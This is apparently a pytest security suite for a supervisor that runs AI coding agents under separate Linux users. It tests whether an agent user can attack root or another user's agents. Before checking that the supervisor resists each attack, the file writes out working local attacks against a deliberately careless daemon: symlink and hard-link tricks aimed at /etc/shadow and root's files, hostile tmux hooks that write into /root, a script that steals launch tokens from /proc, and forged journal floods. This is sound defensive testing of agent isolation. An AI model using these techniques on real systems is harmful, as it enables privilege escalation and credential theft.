"""What an agent can try, by its Linux user `mallory`, against root and against the agents of another user.

Each attack first succeeds against what a careless daemon of root's would do, in a few lines. Then it meets the
supervisor: `mallory`'s own agents may fail to start, with a clear word in the journal; the other user's agents run on
and start, the supervisor reloads, and nothing of root's is read or changed.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import secrets
import signal
import subprocess
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest

from forge_supervisor.pidfd import Pidfd

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from booted import Machine

CONFIG = "/etc/forge-supervisor/config.toml"
UNIT = "forge-supervisor.service"
PYTHON = "/usr/bin/python3"
CLAUDE = "/opt/forge-attacks/claude"
STATE = ".local/state/forge/agents"
DEFAULTS = f"""
[defaults]
restart = {{policy = "always", delay_sec = 0.5, limit_burst = 0}}
[harnesses.claude-code]
binary = "{CLAUDE}"
"""
ROLE = 'role = "You are watched."'
NUMBERS = itertools.count(1)


def declared(name: str, user: str, keys: str = 'command = ["/bin/sleep", "infinity"]') -> str:
    harness = "claude-code" if keys == ROLE else "command"
    return f'[agents.{name}]\nrun_as = "{user}"\nharness = "{harness}"\n{keys}\n'


@dataclass
class Cast:
    """Two users, each with an agent of the same name or more, and the supervisor between them."""

    machine: Machine
    mallory: str
    victim: str
    agents: str = ""

    @property
    def home(self) -> str:
        return f"/home/{self.mallory}"

    def uid(self, user: str) -> int:
        return int(self.machine.run("id", "-u", user).stdout)

    def sh(self, script: str, user: str | None = None) -> str:
        return self.machine.run("sh", "-euc", script, user=user).stdout

    def start(self, *agents: str) -> None:
        """Start the supervisor with these, and the victim's."""
        self.agents = "".join([declared(self.victim, self.victim), *agents])
        self.machine.write(CONFIG, DEFAULTS + self.agents)
        self.machine.run("systemctl", "start", UNIT, timeout=30)
        self.event("agent_started", self.victim)

    def event(
        self, name: str, agent: str, until: Callable[[dict[str, Any]], object] = bool, timeout: float = 20
    ) -> dict[str, Any]:
        """Wait for an event of the supervisor's own."""
        matches = (f"_SYSTEMD_UNIT={UNIT}", f"EVENT={name}", f"AGENT={agent}")
        return self.machine.wait_for(*matches, until=until, timeout=timeout)

    def refused(self, agent: str, *words: str) -> None:
        """Wait until the agent's start has failed with these words."""
        self.event("agent_start_failed", agent, until=lambda e: all(word in e["PROBLEM"] for word in words))

    def kill_agent(self, agent: str) -> None:
        """Kill its first session, and no later one."""
        self.machine.run("kill", "-KILL", self.event("agent_started", agent)["PID"])

    def assert_others_go_on(self, restarts: int = 0) -> None:
        """Show that the supervisor answers, and that the victim's agents run and start."""
        late = f"late-{self.victim}"
        self.agents += declared(late, self.victim)
        self.machine.write(CONFIG, DEFAULTS + self.agents)
        self.machine.run("systemctl", "reload", UNIT, timeout=20)
        self.event("agent_started", late)
        runs = self.event("agent_started", self.victim, until=lambda e: int(e["N_RESTARTS"]) == restarts)
        assert int(runs["PID"]) in self.machine.processes(self.victim)
        exits = self.machine.journal(f"_SYSTEMD_UNIT={UNIT}", "EVENT=agent_exited", f"AGENT={self.victim}")
        assert len(exits) == restarts

    def tmux(self, *arguments: str) -> None:
        """Run a client of mallory's on the supervisor's socket; it starts a server if there is none."""
        self.machine.run("tmux", "-L", "forge", *arguments, user=self.mallory)


@pytest.fixture
def cast(machine: Machine) -> Iterator[Cast]:
    number = next(NUMBERS)
    mallory, victim = f"mallory{number}", f"victim{number}"
    for user in (mallory, victim):
        machine.add_user(user)
    machine.write(CLAUDE, "#!/bin/sh\nexec sleep infinity\n", mode=0o755)
    yield Cast(machine, mallory, victim)
    # First what could make the stop wait.
    machine.run("pkill", "-KILL", "-u", mallory, check=False)
    machine.run("systemctl", "stop", UNIT, timeout=100)
    machine.run("pkill", "-KILL", "-u", f"{mallory},{victim}", check=False)


@dataclass(frozen=True)
class Script:
    """One that runs inside, and ends when its stdin does."""

    process: subprocess.Popen[str]

    def line(self) -> str:
        assert self.process.stdout is not None
        return self.process.stdout.readline().rstrip("\n")

    def end(self) -> str:
        """The rest of what it says."""
        return self.process.communicate(timeout=20)[0]


@contextlib.contextmanager
def running(machine: Machine, script: str, *arguments: str, user: str | None = None) -> Iterator[Script]:
    command = machine.command(PYTHON, "-I", "-S", "-c", script, *arguments, user=user)
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as process:
        yield Script(process)


def snapshot(machine: Machine, *paths: str) -> str:
    """Everything about these files, and what is below them, that must not change."""
    kinds = machine.run("find", *paths, "-printf", "%p %y %i %m %U %G %s %T@ %l\n").stdout
    return kinds + machine.run("find", *paths, "-type", "f", "-exec", "sha256sum", "{}", "+").stdout


CARELESS_BUILD = """
import os, sys
for state in sys.argv[1:]:
    os.makedirs(f"{state}/.claude", exist_ok=True)
    for name in ("CLAUDE.md", ".claude/settings.json"):
        with open(f"{state}/{name}", "w") as file:
            file.write("made by root")
"""


def test_symbolic_links_where_a_start_writes(cast: Cast) -> None:
    machine, name = cast.machine, cast.mallory
    file, folder, whole = (f"{name}-{kind}" for kind in ("file", "folder", "whole"))
    roots, roots_directory = f"/etc/of-root-{name}", f"/root/of-{name}"

    def plant() -> None:
        machine.write(roots, "root's own\n", mode=0o600)
        cast.sh(f"rm -rf {roots_directory} {cast.home}/{STATE}; mkdir -m 700 {roots_directory}")
        cast.sh(
            f"mkdir -p ~/{STATE}/{file} ~/{STATE}/{folder}; cd ~/{STATE};"
            f"ln -s {roots} {file}/CLAUDE.md; ln -s {roots_directory} {folder}/.claude;"
            f"ln -s {roots_directory} {whole}",
            user=name,
        )

    plant()
    machine.run(PYTHON, "-c", CARELESS_BUILD, *(f"{cast.home}/{STATE}/{agent}" for agent in (file, folder, whole)))
    assert machine.read(roots) == "made by root"
    assert machine.run("ls", "-A", roots_directory).stdout.split() == [".claude", "CLAUDE.md", "settings.json"]

    plant()
    before = snapshot(machine, roots, roots_directory)
    cast.start(*(declared(agent, name, ROLE) for agent in (file, folder, whole)))
    cast.event("agent_started", file)
    cast.event("agent_warning", folder, until=lambda e: ".claude was no directory" in e["PROBLEM"])
    cast.event("agent_started", folder)
    cast.refused(whole, f"{whole} is a symbolic link to {roots_directory}")
    cast.assert_others_go_on()
    assert snapshot(machine, roots, roots_directory) == before
    assert cast.sh(f"cd {cast.home}/{STATE}; stat -c '%F %U' {file}/CLAUDE.md {folder}/.claude").splitlines() == [
        f"regular file {name}",
        f"directory {name}",
    ]


def test_fifos_where_a_start_reads_and_writes(cast: Cast) -> None:
    machine, name = cast.machine, cast.mallory
    state = f"{cast.home}/{STATE}/{name}"
    fifos = ("~/.claude.json", "~/.claude/.credentials.json", f"{state}/CLAUDE.md", f"{state}/.claude/settings.json")
    cast.sh(f"mkdir -p ~/.claude {state}/.claude; mkfifo {' '.join(fifos)}", user=name)
    for careless in ("open(sys.argv[1]).read()", "open(sys.argv[1], 'w')"):
        hung = machine.run("timeout", "1", PYTHON, "-c", f"import sys; {careless}", f"{state}/CLAUDE.md", check=False)
        assert hung.returncode == 124

    cast.start(declared(name, name, ROLE))
    cast.refused(name, f"{cast.home}/.claude.json: is no regular file")
    cast.assert_others_go_on()
    machine.run("rm", f"{cast.home}/.claude.json", user=name)
    cast.event("agent_started", name)
    kinds = machine.run("stat", "-c", "%F", f"{state}/CLAUDE.md", f"{state}/.claude/settings.json").stdout
    assert kinds.splitlines() == ["regular file", "regular file"]


CARELESS_READ = """
import resource, sys
with open(sys.argv[1]) as file:
    file.read()
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


def guard_memory(cast: Cast) -> None:
    """Keep a worker of mallory's that reads too much from being a trouble to who runs the tests."""
    drop_in = f"/run/systemd/system/forge-worker-{cast.mallory}.service.d/limit.conf"
    cast.machine.write(drop_in, "[Service]\nLimitAS=2G\n")
    cast.machine.run("systemctl", "daemon-reload")


def test_a_huge_file_is_no_harm_to_others(cast: Cast) -> None:
    machine, name = cast.machine, cast.mallory
    guard_memory(cast)
    machine.run("truncate", "--size=100G", f"{cast.home}/.claude.json", user=name)
    careless = machine.run(
        "prlimit", "--as=2000000000", PYTHON, "-c", CARELESS_READ, f"{cast.home}/.claude.json", check=False
    )
    assert "MemoryError" in careless.stderr

    cast.start(declared(name, name, ROLE))
    cast.event("agent_start_failed", name)
    cast.assert_others_go_on()
    supervisor = machine.property(UNIT, "MainPID")
    assert peak_megabytes(machine, supervisor) < 200


def test_a_huge_file_is_not_read_to_its_end(cast: Cast) -> None:
    machine, name = cast.machine, cast.mallory
    guard_memory(cast)
    places = (".claude.json", f"{STATE}/{name}/CLAUDE.md", f".local/state/forge/launch/{name}/links.json")
    for place in places:
        cast.sh(f"mkdir -p $(dirname ~/{place}); truncate --size=400M ~/{place}", user=name)
    assert int(machine.run(PYTHON, "-c", CARELESS_READ, f"{cast.home}/{places[0]}").stdout) > 400

    cast.start(declared(name, name, ROLE))
    worker = machine.property(f"forge-worker-{name}.service", "MainPID")
    assert peak_megabytes(machine, worker) < 300, "it has 40 of its own, and 64 are more than any honest file"
    failed = machine.journal(f"_SYSTEMD_UNIT={UNIT}", "EVENT=agent_start_failed", f"AGENT={name}")
    assert [entry["PROBLEM"] for entry in failed if "fault" in entry["PROBLEM"]] == []


def peak_megabytes(machine: Machine, pid: str) -> int:
    """The most memory that the process ever had."""
    return int(machine.read(f"/proc/{pid}/status").partition("VmHWM:")[2].split()[0]) // 1024


def test_hard_links_to_files_of_roots(cast: Cast) -> None:
    machine, name = cast.machine, cast.mallory
    state = f"{cast.home}/{STATE}/{name}"
    secret, public, linked = (f"/etc/of-root-{name}-{kind}" for kind in ("secret", "public", "linked"))

    def plant() -> None:
        machine.write(secret, "root's own\n", mode=0o600)
        machine.write(public, '{"root": "its own"}\n', mode=0o644)
        machine.write(linked, "{}\n", mode=0o640)
        cast.sh(f"mkdir -p {state}/.claude ~/.local/state/forge/launch/{name}", user=name)
        # As root: that users can do it themselves is the kernel's default, and turned off for all machines at once
        # (fs.protected_hardlinks).
        places = f"{secret} {state}/CLAUDE.md {public} {state}/.claude/settings.json {public} {cast.home}/.claude.json"
        places += f" {linked} {cast.home}/.local/state/forge/launch/{name}/links.json"
        cast.sh(f"set -- {places}; while [ $# -gt 0 ]; do ln -f $1 $2; shift 2; done")

    plant()
    machine.run("chown", "-R", name, state)
    machine.run(PYTHON, "-c", CARELESS_BUILD, state)
    assert machine.run("stat", "-c", "%U", secret, public).stdout.split() == [name, name]
    assert machine.read(secret) == machine.read(public) == "made by root"

    machine.run("rm", secret, public)
    plant()
    before = snapshot(machine, secret, public, linked)
    cast.start(declared(name, name, ROLE))
    cast.event("agent_started", name)
    cast.assert_others_go_on()
    assert snapshot(machine, secret, public, linked) == before
    assert machine.run("stat", "-c", "%U %a", f"{state}/CLAUDE.md").stdout == f"{name} 600\n"
    assert '"root": "its own"' in machine.read(f"{cast.home}/.claude.json"), "it was a file that all may read"


CARELESS_SEED = """
import json, os, sys
file, uid = sys.argv[1], int(sys.argv[2])
held = open(file).read()
try:
    content = json.loads(held)
except ValueError:
    content = {}
    open(file + ".saved", "w").write(held)
    os.chown(file + ".saved", uid, uid)
open(file, "w").write(json.dumps({**content, "hasCompletedOnboarding": True}))
"""


def test_claudes_own_file_as_a_link_to_roots_passwords(cast: Cast) -> None:
    machine, name = cast.machine, cast.mallory
    password = f"$6${secrets.token_hex(20)}"
    machine.run("usermod", "--password", password, cast.victim)
    machine.run("cp", "--preserve=all", "/etc/shadow", f"/root/shadow-{name}")
    machine.run("ln", "-s", "/etc/shadow", f"{cast.home}/.claude.json", user=name)
    machine.run(PYTHON, "-c", CARELESS_SEED, f"{cast.home}/.claude.json", str(cast.uid(name)))
    try:
        assert password in machine.run("cat", f"{cast.home}/.claude.json.saved", user=name).stdout
        assert machine.read("/etc/shadow") == '{"hasCompletedOnboarding": true}'
    finally:
        machine.run("cp", "--preserve=all", f"/root/shadow-{name}", "/etc/shadow")
        machine.run("rm", f"/root/shadow-{name}", f"{cast.home}/.claude.json.saved")

    before = snapshot(machine, "/etc/shadow"), machine.run("ls", "-A", "/etc").stdout
    cast.start(declared(name, name, ROLE))
    cast.refused(name, "/etc/shadow: Permission denied")
    cast.assert_others_go_on()
    machine.run("systemctl", "stop", UNIT, timeout=30)
    assert (snapshot(machine, "/etc/shadow"), machine.run("ls", "-A", "/etc").stdout) == before
    written = ("/home", "/tmp", "/run", "/dev/shm", "-xdev", "-type", "f", "-readable")
    found = machine.run("find", *written, "-exec", "grep", "-lF", password, "{}", ";", user=name, check=False)
    assert found.stdout == ""
    assert not [entry for entry in machine.journal(f"--unit={UNIT}") if password in str(entry)]


# Those that tmux runs after what its clients ask, and on what happens to its panes (tmux(1), HOOKS).
HOOKS = (
    *("after-capture-pane", "after-copy-mode", "after-display-message", "after-kill-pane", "after-list-panes"),
    *("after-list-sessions", "after-new-session", "after-new-window", "after-pipe-pane", "after-send-keys"),
    *("after-set-option", "after-show-options", "pane-died", "session-closed", "session-created"),
)


def test_hooks_of_a_hostile_tmux_server(cast: Cast) -> None:
    machine, name = cast.machine, cast.mallory
    secret = f"/root/secret-{name}"
    machine.write(secret, "root's own\n", mode=0o600)

    def hook(number: int, command: str) -> None:
        for when in HOOKS:
            cast.tmux("set-hook", "-g", f"{when}[{number}]", command.format(when=when))

    cast.tmux("-f/dev/null", "new-session", "-d", "-s", "mine", "sleep infinity")
    cast.tmux("set-buffer", "-b", "mine", "ssh-ed25519 AAAA mallory")
    hook(1, f"save-buffer -b mine {cast.home}/ran-{{when}}")
    hook(2, f"save-buffer -b mine /root/pwned-{name}-{{when}}")
    hook(3, f"load-buffer -b loot {secret}")
    machine.run("tmux", "-S", f"/tmp/tmux-{cast.uid(name)}/forge", "list-sessions", check=False)
    assert machine.read(f"/root/pwned-{name}-after-list-sessions") == "ssh-ed25519 AAAA mallory"
    assert machine.run("tmux", "-L", "forge", "show-buffer", "-b", "loot", user=name).stdout == "root's own\n"
    assert machine.run("stat", "-c", "%U", f"{cast.home}/ran-after-list-sessions").stdout == "root\n"

    # At first only what succeeds, so that the agent starts and the supervisor meets more of the hooks.
    cast.tmux("delete-buffer", "-b", "loot")
    for when, number in itertools.product(HOOKS, (2, 3)):
        cast.tmux("set-hook", "-gu", f"{when}[{number}]")
    cast.sh(f"rm {cast.home}/ran-* /root/pwned-{name}-*")
    brief = f"brief-{name}"
    cast.start(declared(name, name), declared(brief, name, 'command = ["/bin/sleep", "0.5"]'))
    cast.event("agent_started", name)
    cast.event("agent_started", brief, until=lambda e: int(e["N_RESTARTS"]) > 0)
    hook(2, f"save-buffer -b mine /root/pwned-{name}-{{when}}")
    hook(3, f"load-buffer -b loot {secret}")
    cast.event("agent_start_failed", brief, until=lambda e: "Permission denied" in e["PROBLEM"])
    cast.assert_others_go_on()
    machine.run("systemctl", "stop", UNIT, timeout=100)
    ran = cast.sh(f"cd {cast.home}; ls ran-*", user=name).split()
    assert {"ran-after-list-panes", "ran-after-new-session", "ran-after-send-keys", "ran-pane-died"} <= {*ran}
    assert machine.run("find", cast.home, "/tmp", "!", "-user", name, "-name", "ran-*").stdout == ""
    assert machine.run("find", "/root", "-name", f"pwned-{name}-*").stdout == ""
    buffers = machine.run("tmux", "-L", "forge", "list-buffers", "-F", "#{buffer_name}", user=name).stdout
    assert "loot" not in buffers.split()


# Takes the one-time ids of launches out of command lines, stops the process that was to use one, if it may, and uses
# it in its place. It says whose launch that was, and what came of it.
THIEF = """
import os, re, select, signal, socket, sys
LAUNCH = re.compile(r"(/run/[^\\0]*/launch-([0-9]+)[.]sock)\\0([0-9a-f]{32})")
def seen():
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline") as file:
                words = file.read()
        except OSError:
            continue
        if words.split("\\0")[1:3] == ["-I", "-S"] and (found := LAUNCH.search(words)):
            yield int(pid), *found.groups()
def use(path, identifier):
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(5)
            connection.connect(path)
            connection.sendall(identifier.encode() + b"\\n")
            return connection.recv(65536)
    except OSError as error:
        return type(error).__name__
used = set()
while not select.select([sys.stdin], [], [], 0.001)[0]:
    for pid, path, uid, identifier in seen():
        if identifier not in used:
            used.add(identifier)
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
            print(uid, use(path, identifier), flush=True)
"""
# Gives the plan to whoever names the id.
CARELESS_LAUNCH = """
import os, socket, sys, threading
path, identifier, plan = (sys.stdin.readline().strip() for _ in range(3))
os.umask(0)
server = socket.socket(socket.AF_UNIX)
server.bind(path)
server.listen()
def serve():
    while True:
        connection, _ = server.accept()
        if connection.makefile().readline().strip() == identifier:
            connection.sendall(plan.encode())
        connection.close()
threading.Thread(target=serve, daemon=True).start()
print("ready", flush=True)
sys.stdin.read()
"""
WAIT = "import os, sys; print(os.getpid(), flush=True); sys.stdin.read()"
GUESS = """
import secrets, socket, sys
for _ in range(100):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(sys.argv[1])
        connection.sendall(secrets.token_hex(16).encode() + b"\\n")
        print(connection.recv(65536))
"""


def test_stolen_and_guessed_ids_of_launches(cast: Cast) -> None:
    machine, name, victim = cast.machine, cast.mallory, cast.victim
    mallorys, victims = cast.uid(name), cast.uid(victim)
    careless = f"/run/careless-{name}/launch-{victims}.sock"
    machine.run("mkdir", f"/run/careless-{name}")
    identifier = secrets.token_hex(16)
    with (
        running(machine, CARELESS_LAUNCH) as server,
        running(machine, WAIT, careless, identifier, user=victim) as first_process,
    ):
        assert server.process.stdin is not None
        server.process.stdin.write(f"{careless}\n{identifier}\nTOKEN=of-the-victim\n")
        server.process.stdin.flush()
        assert server.line() == "ready"
        assert first_process.line()
        with running(machine, THIEF, user=name) as thief:
            assert thief.line() == f"{victims} b'TOKEN=of-the-victim'"

    always = 'command = ["/bin/true"]\nrestart = {policy = "always", delay_sec = 0.05, limit_burst = 0}\n'
    with running(machine, THIEF, user=name) as thief:
        cast.start(
            declared(f"{name}-often", name, always + 'env.TOKEN = "of-mallory"'),
            declared(f"{victim}-often", victim, always + 'env.TOKEN = "of-the-victim"'),
        )
        cast.refused(f"{name}-often", "asked for the launch of pane process")
        cast.event("agent_started", f"{victim}-often", until=lambda e: int(e["N_RESTARTS"]) > 20)
        guessed = machine.run(
            PYTHON, "-c", GUESS, f"/run/forge-supervisor/launch-{mallorys}.sock", user=name
        ).stdout.split()
        cast.assert_others_go_on()
        loot = thief.end().splitlines()
    assert guessed == ["b''"] * 100
    assert {line for line in loot if line.startswith(f"{victims} ")} == {f"{victims} PermissionError"}
    assert {line for line in loot if line.startswith(f"{mallorys} ")} == {f"{mallorys} b''"}
    failed = machine.journal(f"_SYSTEMD_UNIT={UNIT}", "EVENT=agent_start_failed", f"RUN_AS={victim}")
    assert failed == []


# Hears one client out before the next.
CARELESS_QUEUE = """
import os, socket, sys, threading
os.umask(0)
server = socket.socket(socket.AF_UNIX)
server.bind(sys.argv[1])
server.listen(1000)
def serve():
    while True:
        connection, _ = server.accept()
        connection.makefile().readline()
        connection.sendall(b"a plan")
        connection.close()
threading.Thread(target=serve, daemon=True).start()
print("ready", flush=True)
sys.stdin.read()
"""
SILENT = """
import socket, sys
held = []
for _ in range(500):
    held.append(socket.socket(socket.AF_UNIX))
    held[-1].connect(sys.argv[1])
print("ready", flush=True)
sys.stdin.read()
"""
ASK = """
import socket, sys
connection = socket.socket(socket.AF_UNIX)
connection.settimeout(1)
connection.connect(sys.argv[1])
connection.sendall(b"an id\\n")
print(connection.recv(100))
"""


def test_five_hundred_silent_clients_of_a_launch_socket(cast: Cast) -> None:
    machine, name = cast.machine, cast.mallory
    careless = f"/run/careless-{name}.sock"
    with running(machine, CARELESS_QUEUE, careless) as server:
        assert server.line() == "ready"
        assert machine.run(PYTHON, "-c", ASK, careless, user=cast.victim).stdout == "b'a plan'\n"
        with running(machine, SILENT, careless, user=name) as silent:
            assert silent.line() == "ready"
            kept_waiting = machine.run(PYTHON, "-c", ASK, careless, user=cast.victim, check=False)
            assert "TimeoutError" in kept_waiting.stderr

    cast.start(declared(name, name))
    cast.event("agent_started", name)
    ours = f"/run/forge-supervisor/launch-{cast.uid(name)}.sock"
    with running(machine, SILENT, ours, user=name) as silent:
        assert silent.line() == "ready"
        cast.kill_agent(cast.victim)
        cast.event("agent_started", cast.victim, until=lambda e: e["N_RESTARTS"] == "1", timeout=5)
        refused = machine.run(PYTHON, "-c", ASK, ours, user=cast.victim, check=False)
        assert "PermissionError" in refused.stderr
        cast.assert_others_go_on(restarts=1)


def lie(cast: Cast, pid: str) -> None:
    """Have mallory's tmux server say that `pid` is the process of agents' panes, whoever asks, by aliases of commands.

    Of a pane `rogue` that there is not, and of every new session, and every pane that is used again.
    """
    row = f"%%77 {pid} 0 [] [] rogue-{cast.mallory}"
    lies = {
        "list-panes": f"display-message -p '{row}' ; list-windows -f 0",
        "new-session": f"display-message -p '%%78 {pid}' ; new-session",
        "respawn-pane": f"display-message -p '%%78 {pid}' ; respawn-pane",
        "kill-pane": "run-shell",  # which takes any target
    }
    for number, (command, what) in enumerate(lies.items(), 100):
        cast.tmux("set-option", "-s", f"command-alias[{number}]", f"{command}={what}")


def test_a_tmux_server_that_says_another_users_process_is_the_agent(cast: Cast) -> None:
    machine, name = cast.machine, cast.mallory
    cast.tmux("-f/dev/null", "new-session", "-d", "-s", "mine", "sleep infinity")
    with running(machine, WAIT, user=cast.victim) as bystander:
        lie(cast, bystander.line())
        ask = ("runuser", "-u", name, "--", "tmux", "-L", "forge", "list-panes", "-a", "-F", "#{pane_id} #{pane_pid}")
        machine.run("kill", "-KILL", machine.run(*ask).stdout.split()[1])
        assert bystander.process.wait(10) != 0, "it took no more than to drop privileges for tmux"

    with running(machine, WAIT, user=cast.victim) as bystander:
        pid = bystander.line()
        lie(cast, pid)
        # Marks that anybody can make: of this agent, of it once more, and of somebody else's.
        for agent in (name, name, cast.victim):
            cast.tmux("new-window", "-d", "-n", "forged", "sleep infinity")
            cast.tmux("set-option", "-p", "-t", "=mine:{end}", "@forge-agent", agent)
        cast.start(declared(name, name), declared(f"rogue-{name}", name))
        cast.refused(name, f"process {pid} belongs to uid {cast.uid(cast.victim)}, not to {cast.uid(name)}")
        cast.assert_others_go_on()
        machine.run("systemctl", "stop", UNIT, timeout=100)
        assert int(pid) in machine.processes(cast.victim)
        assert bystander.process.poll() is None


def test_a_tmux_server_that_says_another_users_agent_is_its_own(cast: Cast) -> None:
    cast.tmux("-f/dev/null", "new-session", "-d", "-s", "mine", "sleep infinity")
    cast.tmux("set-option", "-p", "-t", "=mine:", "@forge-agent", cast.victim)
    cast.start(declared(cast.mallory, cast.mallory))
    cast.event("agent_started", cast.mallory)
    cast.assert_others_go_on()
    story = cast.machine.journal(f"_SYSTEMD_UNIT={UNIT}", f"AGENT={cast.victim}")
    assert {entry["RUN_AS"] for entry in story} == {cast.victim}


@pytest.mark.skipif(os.geteuid() != 0, reason="only root could signal another user's process")
def test_a_pid_that_is_another_users_is_not_signalled() -> None:
    mallory, victim = 65533, 65534
    with subprocess.Popen(["/bin/sleep", "infinity"], user=victim, group=victim, extra_groups=[]) as process:
        os.kill(process.pid, signal.SIGKILL)
        assert process.wait(10) == -signal.SIGKILL, "root may"

    with subprocess.Popen(["/bin/sleep", "infinity"], user=victim, group=victim, extra_groups=[]) as process:
        try:
            with pytest.raises(PermissionError, match=f"belongs to uid {victim}, not to {mallory}"):
                Pidfd(process.pid, mallory).signal(signal.SIGKILL)
            assert process.poll() is None
        finally:
            process.kill()


# Signals its user's workers, each as soon as there is one.
SIGNALLER = """
import os, select, signal, sys
number = signal.Signals[sys.argv[1]]
hit = set()
while not select.select([sys.stdin], [], [], 0.01)[0]:
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                if b"forge_supervisor.worker" in file.read().split(b"\\0"):
                    os.kill(int(pid), number)
        except OSError:
            continue
        else:
            if not hit:
                print("ready", flush=True)
            hit.add(int(pid))
for pid in hit:
    try:
        os.kill(pid, signal.SIGCONT)
    except OSError:
        pass
"""
# Asks one user's worker, and then serves the next user.
CARELESS_QUESTION = """
import json, subprocess, sys
user, number = sys.argv[1:]
hostile = [sys.executable, "-c", f"import os, signal; os.kill(os.getpid(), signal.{number})"]
worker = subprocess.Popen(hostile, user=user, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
json.loads(worker.stdout.readline())
print("the next user is served")
"""


def assert_a_careless_daemon_serves_nobody(cast: Cast, number: str) -> None:
    command = ("timeout", "1", PYTHON, "-c", CARELESS_QUESTION, cast.mallory, number)
    done = cast.machine.run(*command, check=False)
    assert (done.returncode, done.stdout) == (124 if number == "SIGSTOP" else 1, "")


@pytest.mark.parametrize("number", ["SIGSTOP", "SIGKILL"])
def test_a_worker_that_its_user_stops_or_kills(cast: Cast, number: str) -> None:
    machine, name = cast.machine, cast.mallory
    assert_a_careless_daemon_serves_nobody(cast, number)

    cast.start(declared(name, name))
    cast.event("agent_started", name)
    with running(machine, SIGNALLER, number, user=name) as signaller:
        assert signaller.line() == "ready"
        cast.kill_agent(name)
        cast.kill_agent(cast.victim)
        cast.event("agent_started", cast.victim, until=lambda e: e["N_RESTARTS"] == "1", timeout=5)
        cast.assert_others_go_on(restarts=1)
        if number == "SIGKILL":
            machine.wait_for(f"_SYSTEMD_UNIT={UNIT}", "EVENT=worker_lost", f"RUN_AS={name}", until=bool, timeout=20)
    cast.event("agent_started", name, until=lambda e: int(e["N_RESTARTS"]) > 0)


def test_a_stopped_worker_does_not_hold_up_what_a_reload_changes_for_others(cast: Cast) -> None:
    machine, name = cast.machine, cast.mallory
    assert_a_careless_daemon_serves_nobody(cast, "SIGSTOP")

    cast.start(declared(name, name))
    before = cast.event("agent_started", cast.victim)
    cast.event("agent_started", name)
    with running(machine, SIGNALLER, "SIGSTOP", user=name) as signaller:
        assert signaller.line() == "ready"
        machine.write(CONFIG, DEFAULTS + cast.agents.replace('"infinity"', '"100000"'))
        machine.run("systemctl", "reload", "--no-block", UNIT)
        cast.event("agent_started", cast.victim, until=lambda e: e["PID"] != before["PID"], timeout=8)


# In the words of the supervisor: journald takes any fields from anybody, but those that begin with '_'.
FLOOD = """
import socket, sys
journal = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
journal.connect("/run/systemd/journal/socket")
victim = sys.argv[1]
entry = f"EVENT=agent_exited\\nAGENT={victim}\\nSYSLOG_IDENTIFIER=forge-supervisor\\nRESULT=forged\\nMESSAGE=gone\\n"
while True:
    journal.send(entry.encode())
"""


def test_a_flood_of_forged_entries_in_the_journal(cast: Cast) -> None:
    machine, name, victim = cast.machine, cast.mallory, cast.victim
    # What a user writes and what root has to say in one unit, under one limit.
    limit = ("--property=LogRateLimitIntervalSec=30s", "--property=LogRateLimitBurst=100")
    # Journald looks the limit up by whoever writes, while that lives.
    both = f"runuser -u {name} -- seq 2000; sh -c 'echo the victim has failed; journalctl --sync'"
    machine.run("systemd-run", "--wait", f"--unit=careless-{name}", *limit, "sh", "-c", both)
    careless = [entry["MESSAGE"] for entry in machine.journal(f"_SYSTEMD_UNIT=careless-{name}.service")]
    assert "1" in careless and "the victim has failed" not in careless

    machine.write(f"{cast.home}/flood.py", FLOOD)
    cast.start(declared(name, name, f'command = ["{PYTHON}", "{cast.home}/flood.py", "{victim}"]'))
    forged = machine.wait_for("EVENT=agent_exited", f"AGENT={victim}", until=bool, timeout=20)
    assert forged["RESULT"] == "forged", "who does not ask for the unit is told so"
    assert machine.journal(f"--unit={UNIT}", "EVENT=agent_exited", f"AGENT={victim}") == []
    cast.kill_agent(victim)
    exited = cast.event("agent_exited", victim)
    assert (exited["RESULT"], exited["SIGNAL"]) == ("signal", "9")
    cast.event("agent_started", victim, until=lambda e: e["N_RESTARTS"] == "1", timeout=5)
    cast.assert_others_go_on(restarts=1)
    (exited,) = machine.journal(f"--unit={UNIT}", "EVENT=agent_exited", f"AGENT={victim}")
    assert exited["RESULT"] == "signal"


def test_the_directory_of_another_users_tmux_socket_made_first(cast: Cast) -> None:
    machine, name, victim = cast.machine, cast.mallory, cast.victim
    machine.run("mkdir", f"/tmp/tmux-{cast.uid(victim)}", user=name)
    careless = machine.run("tmux", "-L", "careless", "new-session", "-d", user=victim, check=False)
    assert "unsafe permissions" in careless.stderr

    machine.write(CONFIG, DEFAULTS + declared(victim, victim))
    machine.run("systemctl", "start", UNIT, timeout=30)
    seen = machine.wait_for(f"_SYSTEMD_UNIT={UNIT}", f"AGENT={victim}", until=bool, timeout=20)
    assert seen["EVENT"] == "agent_started", seen["PROBLEM"]
